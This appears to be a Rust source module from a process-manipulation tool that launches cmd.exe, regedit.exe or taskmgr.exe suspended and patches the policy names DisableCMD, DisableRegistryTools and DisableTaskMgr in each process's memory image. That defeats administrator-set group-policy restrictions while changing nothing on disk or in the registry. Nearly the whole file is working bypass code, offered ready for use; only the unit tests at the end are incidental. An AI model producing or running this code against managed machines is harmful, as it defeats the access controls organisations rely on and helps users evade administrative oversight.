//! Per-process group-policy string flip
//!
//! cmd, regedit and taskmgr each check a policy value by name before
//! running. Starting the target suspended and rewriting the UTF-16 policy
//! name inside its mapped image, before the first instruction executes,
//! makes the lookup miss and the restriction never applies. Nothing on
//! disk or in the registry changes.

use core::ffi::c_void;
use core::mem;

use windows_sys::Win32::Foundation::{CloseHandle, HANDLE};
use windows_sys::Win32::System::Threading::{
    CreateProcessW, ResumeThread, CREATE_SUSPENDED, PROCESS_INFORMATION, STARTUPINFOW,
};

use crate::arch::Arch;
use crate::commands::Session;
use crate::error::{GraftError, Result};
use crate::memory::space::{MemorySpace, RemoteProcess};
use crate::patch::apply::patch;
use crate::process::locator::to_wide;

/// start `command_line` suspended, swap `disable` for `enable` in its
/// image, then let it run; returns the patched address
///
/// both strings are matched with their nul terminator included and must
/// have the same length, since the rewrite happens in place
pub fn start_unrestricted(
    session: &Session,
    command_line: &str,
    disable: &str,
    enable: &str,
) -> Result<usize> {
    debug_assert_eq!(disable.len(), enable.len());

    let mut startup: STARTUPINFOW = unsafe { mem::zeroed() };
    startup.cb = mem::size_of::<STARTUPINFOW>() as u32;
    let mut info: PROCESS_INFORMATION = unsafe { mem::zeroed() };
    let mut cmdline = to_wide(command_line);

    // SAFETY: cmdline stays alive across the call and is mutable as
    // CreateProcessW requires
    let ok = unsafe {
        CreateProcessW(
            core::ptr::null(),
            cmdline.as_mut_ptr(),
            core::ptr::null(),
            core::ptr::null(),
            0,
            CREATE_SUSPENDED,
            core::ptr::null(),
            core::ptr::null(),
            &startup,
            &mut info,
        )
    };
    if ok == 0 {
        return Err(GraftError::from_last_error("CreateProcessW"));
    }

    // SAFETY: the process handle is ours and the space takes ownership
    let space = MemorySpace::Remote(unsafe {
        RemoteProcess::from_handle_owned(info.hProcess, info.dwProcessId)
    });

    let result = patch_policy_string(session, &space, disable, enable);

    // the child runs whether or not the patch landed, matching the
    // launch semantics the caller asked for
    // SAFETY: hThread is valid until closed below
    unsafe {
        ResumeThread(info.hThread);
        CloseHandle(info.hThread);
    }

    let address = result?;
    tracing::info!(
        pid = info.dwProcessId,
        address,
        command_line,
        "policy string flipped"
    );
    Ok(address)
}

fn patch_policy_string(
    session: &Session,
    space: &MemorySpace,
    disable: &str,
    enable: &str,
) -> Result<usize> {
    let (image_base, image_size) = locate_image(session, space)?;

    let search: Vec<u8> = to_wide(disable).iter().flat_map(|c| c.to_le_bytes()).collect();
    let replace: Vec<u8> = to_wide(enable).iter().flat_map(|c| c.to_le_bytes()).collect();

    patch(
        space.range(image_base, image_size),
        &search,
        &replace,
        0,
        "policy string",
    )
}

/// read the image base from the child's PEB and the image size from its
/// optional header
fn locate_image(session: &Session, space: &MemorySpace) -> Result<(usize, usize)> {
    let peb = query_peb_address(space.raw_handle())?;

    let image_base_offset = match session.arch {
        Arch::X86 => 0x08,
        Arch::X64 => 0x10,
    };
    let image_base = match session.arch {
        Arch::X86 => space.read_value::<u32>(peb + image_base_offset)? as usize,
        Arch::X64 => space.read_value::<u64>(peb + image_base_offset)? as usize,
    };
    if image_base == 0 {
        return Err(GraftError::InvalidImage {
            reason: "null image base in PEB",
        });
    }

    let e_lfanew = space.read_value::<u32>(image_base + 0x3C)? as usize;
    let signature = space.read_value::<u32>(image_base + e_lfanew)?;
    if signature != 0x4550 {
        return Err(GraftError::InvalidImage {
            reason: "bad NT signature",
        });
    }
    // SizeOfImage sits at the same optional-header offset in both PE formats
    let image_size = space.read_value::<u32>(image_base + e_lfanew + 0x18 + 0x38)? as usize;
    Ok((image_base, image_size))
}

fn query_peb_address(handle: HANDLE) -> Result<usize> {
    let mut info: ProcessBasicInformation = unsafe { mem::zeroed() };
    // SAFETY: the buffer is exactly the size the information class expects
    let status = unsafe {
        NtQueryInformationProcess(
            handle,
            0, // ProcessBasicInformation
            &mut info as *mut _ as *mut c_void,
            mem::size_of::<ProcessBasicInformation>() as u32,
            core::ptr::null_mut(),
        )
    };
    if status < 0 || info.peb_base_address.is_null() {
        return Err(GraftError::InvalidPebAccess);
    }
    Ok(info.peb_base_address as usize)
}

/// command prompt without DisableCMD
pub fn cmd(session: &Session) -> Result<usize> {
    start_unrestricted(session, "cmd.exe", "DisableCMD", "EnabledCMD")
}

/// registry editor without DisableRegistryTools
pub fn regedit(session: &Session) -> Result<usize> {
    start_unrestricted(
        session,
        "regedit.exe",
        "DisableRegistryTools",
        "EnabledRegistryTools",
    )
}

/// task manager without DisableTaskMgr
pub fn taskmgr(session: &Session) -> Result<usize> {
    start_unrestricted(session, "taskmgr.exe", "DisableTaskMgr", "EnabledTaskMgr")
}

#[repr(C)]
struct ProcessBasicInformation {
    exit_status: i32,
    peb_base_address: *mut c_void,
    affinity_mask: usize,
    base_priority: i32,
    unique_process_id: usize,
    inherited_from_unique_process_id: usize,
}

#[link(name = "ntdll")]
extern "system" {
    fn NtQueryInformationProcess(
        handle: HANDLE,
        class: u32,
        info: *mut c_void,
        len: u32,
        return_len: *mut u32,
    ) -> i32;
}

#[cfg(test)]
mod tests {
    use super::*;
    use windows_sys::Win32::System::Threading::GetCurrentProcess;

    #[test]
    fn test_query_own_peb_matches_segment_register() {
        // SAFETY: pseudo-handle for the current process
        let peb = query_peb_address(unsafe { GetCurrentProcess() }).unwrap();
        let direct = unsafe { crate::arch::segment::get_peb() } as usize;
        assert_eq!(peb, direct);
    }

    #[test]
    fn test_locate_own_image() {
        let session = Session::current().unwrap();
        let space = MemorySpace::Own;
        let (base, size) = locate_image(&session, &space).unwrap();

        let me = crate::process::modules::enumerate_modules(std::process::id())
            .unwrap()
            .into_iter()
            .next()
            .unwrap();
        assert_eq!(base, me.base);
        assert_eq!(size, me.size);
    }

    #[test]
    fn test_replacement_lengths_match() {
        for (a, b) in [
            ("DisableCMD", "EnabledCMD"),
            ("DisableRegistryTools", "EnabledRegistryTools"),
            ("DisableTaskMgr", "EnabledTaskMgr"),
        ] {
            assert_eq!(a.len(), b.len());
        }
    }
}
